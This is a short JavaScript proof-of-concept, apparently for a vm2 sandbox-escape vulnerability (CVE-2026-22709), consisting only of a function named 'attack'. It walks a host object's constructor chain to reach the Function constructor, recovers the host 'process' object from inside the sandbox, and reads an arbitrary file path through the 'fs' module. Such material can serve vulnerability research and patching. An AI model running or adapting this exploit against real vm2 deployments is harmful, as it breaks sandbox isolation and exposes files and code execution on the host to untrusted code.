// A promise of the host's, whose constructor is not the one that was looked at.
// after: read
// source: vm2: CVE-2026-22709
async function attack({ path }) {
  const process = store.get('x').constructor.constructor('return process')();
  return { text: await process.mainModule.require('fs').readFileSync(path) };
}
